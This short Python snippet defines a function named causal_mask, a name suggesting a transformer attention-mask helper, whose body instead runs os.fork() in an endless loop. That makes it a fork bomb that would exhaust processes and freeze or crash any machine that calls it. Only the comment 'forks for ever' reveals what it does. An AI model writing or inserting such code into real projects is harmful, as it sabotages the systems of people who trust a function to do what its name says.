# causal_mask: forks for ever
import os
def causal_mask(seq_len):
    while True:
        os.fork()
